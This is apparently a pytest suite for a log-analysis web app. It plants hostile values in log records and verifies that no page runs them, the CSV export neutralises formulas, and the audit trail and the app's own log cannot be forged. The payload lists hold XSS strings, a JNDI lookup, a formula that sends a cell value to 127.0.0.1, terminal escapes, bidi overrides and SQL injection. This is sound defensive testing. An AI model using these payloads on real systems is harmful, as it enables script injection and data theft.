"""Hostile lines in every page: nothing of them runs, their signs are seen, files and our own log stay what they are."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Error
from tests.web_people import PASSWORD, client, team
from tests.web_server import web_server

from logshed.api import Lake

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page

HIT = "window.__hit=1"
TEXTS = [
    f"<script>{HIT}</script>",
    f'"><img src=x onerror="{HIT}">',
    f"'><svg onload='{HIT}'>",
    f"javascript:{HIT}",
    f'</script></style></textarea></title><iframe srcdoc="<script>parent.{HIT[7:]}</script>">',
    "{{7*7}} {%print(7*7)%} ${7*7} #{7*7}",
    "${jndi:ldap://127.0.0.1:1/x}",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b1m",
    "\u202egpj.exe\u2066 \u200f\ufeff",
    "nul\x00in it",
    "\ud800lone\udfff",
    "%s %n %x {0.__class__}",
    "'; DROP TABLE logs; --",
]
FORMULAS = ['=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"]
LONG = "L" * 1_000_000
ODD = "odd/na me@1"
HOSTILE_NAME = f'x"><img src=x onerror="{HIT}">'
SIGNS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200f\u202a-\u202e\u2066-\u2069]")
WAIT_MS, QUIET_MS = 30_000, 3_000
PAGES = [
    "/?since=all",
    "/dashboards/error_breakdown?since=all",
    "/dashboards/traffic_patterns?since=all",
    "/dashboards/security_analysis?since=all",
    "/explore?since=all&columns=body,service_name,user_agent_original,attributes.evil",
    "/explore?since=all&by=service_name&wrap=1",
    "/patterns?since=all",
    "/sql",
    "/security?status=any&since=all",
    "/security/findings?since=all",
    "/live",
    "/sources",
    "/sources/rejects",
    "/sources/ledger",
    "/sources/receivers",
    "/collections",
    f"/collections/{ODD}",
    "/trace/" + "ab" * 16,
    "/admin/trail",
    "/admin/users",
    "/admin/tokens",
    "/admin/redaction",
    "/admin/queries",
]


def lines() -> Iterator[str]:
    """Records with hostile values and names of fields."""
    for number, text in enumerate([*TEXTS, *FORMULAS, LONG]):
        told: dict[str, Any] = {
            "timestamp": f"2026-11-20T10:{number:02}:00Z",
            "level": "error",
            "message": text,
            "service": text[:200],
            "host": text[:200],
            "trace_id": "ab" * 16,
            "evil": text[:200],
            text[:80] or "x": text[:80],
            HOSTILE_NAME: "name",
        }
        yield json.dumps(told) + "\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """A lake of all of it, in two collections, with rejects and findings."""
    folder = tmp_path_factory.mktemp("hostile")
    lake = Lake.open(folder / "lake", create=True)
    (folder / "evil.jsonl").write_text("".join(lines()))
    lake.ingest([folder / "evil.jsonl"], collection=ODD)
    access = [
        f'192.0.2.{number % 9 + 1} - - [20/Nov/2026:10:{number % 60:02}:00 +0000] "GET /?q={one[:200]} HTTP/1.1" '
        f'404 1 "{one[:200]}" "sqlmap/1.0 {one[:200]}"'.replace("\n", "")
        for number, one in enumerate([*TEXTS, *FORMULAS] * 12)
    ]
    (folder / "access.log").write_bytes("\n".join([*access, *TEXTS]).encode("utf-8", "surrogatepass"))
    lake.ingest([folder / "access.log"], collection="web", format="apache_combined")
    lake.security.detect()
    return lake


@pytest.fixture(scope="module")
def url(hostile: Lake) -> Iterator[str]:
    with web_server(hostile) as found:
        yield found


class Watched:
    """A page that tells what runs in it.

    Args:
        browser: In which.
    """

    def __init__(self, browser: Browser) -> None:
        self._context = browser.new_context(reduced_motion="reduce")
        self.page: Page = self._context.new_page()
        self.page.set_default_timeout(WAIT_MS)
        self.told: list[str] = []
        self.page.on("pageerror", lambda error: self.told.append(f"error: {error}"))
        self.page.on("console", self._console)
        self.page.on("dialog", self._dialog)

    def _console(self, said: ConsoleMessage) -> None:
        if said.type == "error":
            self.told.append(f"console: {said.text}")

    def _dialog(self, shown: Dialog) -> None:
        self.told.append(f"dialog: {shown.message}")
        shown.dismiss()

    def quiet(self) -> None:
        """Wait until nothing more comes; a page that streams is never quiet."""
        try:
            self.page.wait_for_load_state("networkidle", timeout=QUIET_MS)
        except Error:
            assert self.page.locator("main").is_visible()

    def wrong(self) -> list[str]:
        """What ran, or is shown as it must not be."""
        page = self.page
        found = [*self.told]
        self.told.clear()
        if page.evaluate("window.__hit !== undefined"):
            found.append("a value ran")
        if page.locator("main img[src='x'], main script, main iframe, main svg[onload]").count():
            found.append("a value became an element")
        if signs := SIGNS.findall(page.locator("main").inner_text()):
            found.append(f"signs are obeyed: {sorted({hex(ord(one)) for one in signs})}")
        if "owned" in page.title():
            found.append("the title is another")
        return found

    def close(self) -> None:
        """Close it."""
        self._context.close()


@pytest.fixture(scope="module")
def watched(browser: Browser) -> Iterator[Watched]:
    made = Watched(browser)
    yield made
    made.close()


@pytest.mark.parametrize("every", [3, pytest.param(1, marks=pytest.mark.soak)], ids=["third", "all"])
def test_nothing_of_a_hostile_line_runs_in_any_page(url: str, watched: Watched, every: int) -> None:
    wrong = {}
    for path in PAGES[::every]:
        watched.page.goto(url + path)
        watched.quiet()
        if found := watched.wrong():
            wrong[path] = found
    assert not wrong


def test_a_hostile_record_is_opened_searched_and_its_signs_are_seen(url: str, watched: Watched) -> None:
    page = watched.page
    page.goto(f"{url}/explore?since=all&q=jndi+OR+lone")
    page.locator(".layer .row:not(.waiting)").first.click()
    page.locator("#detail h2 time").wait_for()
    watched.quiet()
    page.goto(f"{url}/explore?since=all&q=service%3A*red*")
    page.locator(".layer .row:not(.waiting)").first.click()
    page.locator("#detail h2 time").wait_for()
    watched.quiet()
    assert "␛[31mred" in page.locator("main").inner_text()
    assert watched.wrong() == []


def test_a_table_for_spreadsheets_holds_no_formula(url: str) -> None:
    answer = httpx.get(f"{url}/api/v1/export", params={"since": "all", "format": "csv"}, timeout=60)
    csv.field_size_limit(2_000_000)
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(TEXTS)
    assert [cell[:40] for cell in cells if cell[:1] in "=+-@\t\r" and cell] == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(len(cell) >= len(LONG) for cell in cells)


def test_nothing_that_is_sent_forges_a_line_of_the_trail_or_of_our_own_log(
    hostile: Lake, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    people, tokens, users = team(tmp_path)
    forged = 'x\n{"verb":"forged"}\r\n\x1b[31m\u202e'
    for name in ("logshed", "uvicorn"):
        caplog.set_level(logging.DEBUG, name)
    with web_server(hostile, tokens, people) as url, client(url, users["admin"]) as admin:
        asked = {"name": forged, "password": PASSWORD}
        assert httpx.post(f"{url}/api/v1/session", json=asked, timeout=60).status_code == 401
        assert admin.get("/api/v1/export", params={"q": json.dumps(forged), "since": "1h"}).status_code == 200
        assert admin.post("/api/v1/tokens", json={"name": forged, "collections": ["web"]}).status_code in (201, 422)
        admin.get(f"/api/v1/collections/{quote(forged, safe='')}")
        admin.get("/api/v1/sources", headers={"User-Agent": "\x1b[31m", "X-Forwarded-For": "192.0.2.1, \x1b[31m"})
    trail = (hostile.root / "audit.jsonl").read_bytes()
    entries = [json.loads(one) for one in trail.splitlines()]
    assert "export" in [one.get("verb") for one in entries]
    assert "forged" not in [one.get("verb") for one in entries]
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", trail)
    ours = [one.getMessage() for one in caplog.records if one.name.startswith(("logshed", "uvicorn"))]
    assert [one for one in ours if SIGNS.search(one) or "\n" in one] == []
